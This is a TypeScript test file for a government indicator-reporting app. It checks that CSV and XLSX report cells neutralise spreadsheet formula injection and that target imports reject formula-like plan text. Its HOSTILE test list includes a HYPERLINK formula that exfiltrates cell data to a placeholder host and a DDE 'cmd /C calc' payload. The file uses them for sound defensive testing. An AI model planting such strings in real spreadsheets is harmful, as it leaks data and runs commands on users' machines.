// Report cells are data: CSV text that a spreadsheet would run as a formula is neutralised (OWASP:
// a leading single quote), numbers stay numbers, XLSX values are never formula objects, and the
// targets import refuses a plan text that is a formula, naming its line.
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { parseCsv } from '../../indicators/import.ts';
import { reportCsv } from '../../indicators/report/csv.ts';
import type { MonthlyReport } from '../../indicators/report/rows.ts';
import { csvCell, csvLine, looksLikeFormula, neutraliseText, xlsxCell } from '../../lib/cells.ts';

export const HOSTILE = ['=HYPERLINK("http://x.example/?d="&A1,"bấm")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(1)', '\t=1', '\r=1', '＝1+1', ' =1+1'];

describe('CSV cells', () => {
  it.each(HOSTILE)('neutralises %j', (text) => {
    expect(looksLikeFormula(text)).toBe(true);
    expect(neutraliseText(text)).toBe(`'${text}`);
    const back = parse(csvLine(['a', text, 'b']), { relax_quotes: false }) as string[][];
    expect(back).toEqual([['a', `'${text}`, 'b']]);
  });

  it.each(['003', 'Kế hoạch 003/KH-UBND', 'a=b', 'a-b', 'email@x', '', '1e5', 'Đạt'])('keeps the plain text %j', (text) => {
    expect(looksLikeFormula(text)).toBe(false);
    expect(neutraliseText(text)).toBe(text);
  });

  it('keeps numbers as numbers, negative ones included, and quotes what RFC 4180 needs', () => {
    expect(csvCell(-2)).toBe('-2');
    expect(csvCell(97.25)).toBe('97.25');
    expect(csvCell(Number.NaN)).toBe('');
    expect(csvCell(null)).toBe('');
    expect(csvCell('-2')).toBe("'-2"); // text that looks like a formula start is text
    expect(csvCell('a,"b"')).toBe('"a,""b"""');
    expect(csvCell('=1,2')).toBe(`"'=1,2"`);
  });

  it('writes the monthly report with every hostile plan neutralised', () => {
    const report: MonthlyReport = {
      unit: { code: 'X01', name: 'Xã Một' },
      month: '2025-02',
      generatedAt: '2025-03-01T00:00:00.000Z',
      rows: HOSTILE.map((plan, i) => ({ stt: i + 1, indicator: 'dossier_online', name_vi: 'Tỷ lệ', plan, comparator: '>=', target: -5, result: null, attainment: null, status: 'no_data' as const })),
    };
    const rows = parse(reportCsv(report).replace(/^\uFEFF/, '')) as string[][];
    expect(rows.slice(1).map((r) => r[3])).toEqual(HOSTILE.map((p) => `'${p}`));
    expect(rows.slice(1).map((r) => r[5])).toEqual(HOSTILE.map(() => '-5'));
    // A cell that starts like a formula is a real number the report wrote as a number.
    for (const r of rows) for (const c of r) expect(!looksLikeFormula(c) || /^-\d+(\.\d+)?$/.test(c)).toBe(true);
  });
});

describe('XLSX cells', () => {
  it('are strings or numbers, never objects exceljs would read as formulas', () => {
    expect(xlsxCell('=1+1')).toBe('=1+1');
    expect(xlsxCell(-2)).toBe(-2);
    expect(xlsxCell(Number.POSITIVE_INFINITY)).toBeNull();
    expect(xlsxCell({ formula: 'SUM(A1)' })).toBe('{"formula":"SUM(A1)"}');
    expect(xlsxCell({ text: 'x', hyperlink: 'http://x' })).toBe('{"text":"x","hyperlink":"http://x"}');
    expect(xlsxCell(undefined)).toBeNull();
  });
});

describe('targets import', () => {
  it('refuses a plan (or unit name) that a spreadsheet would run as a formula, naming the line', () => {
    const csv = ['plan,indicator,scope_unit,scope_level,year,comparator,value', '003,dossier_online,H01,,2025,>=,70', ...HOSTILE.map((p) => `"${p.replaceAll('"', '""')}",dossier_online,H01,,2025,>=,70`)].join('\n');
    const t = parseCsv('targets', csv);
    expect(t.rows.map((r) => r.plan)).toEqual(['003']);
    expect(t.errors).toEqual(HOSTILE.map((_, i) => ({ line: i + 3, field: 'plan', reason: expect.stringContaining('would run as a formula') })));
    const u = parseCsv('units', 'code,name,level,parent_code,valid_from,valid_to\nX9,=1+1,XA,,2025-07-01,\n');
    expect(u.errors).toEqual([{ line: 2, field: 'name', reason: expect.stringContaining('would run as a formula') }]);
  });
});
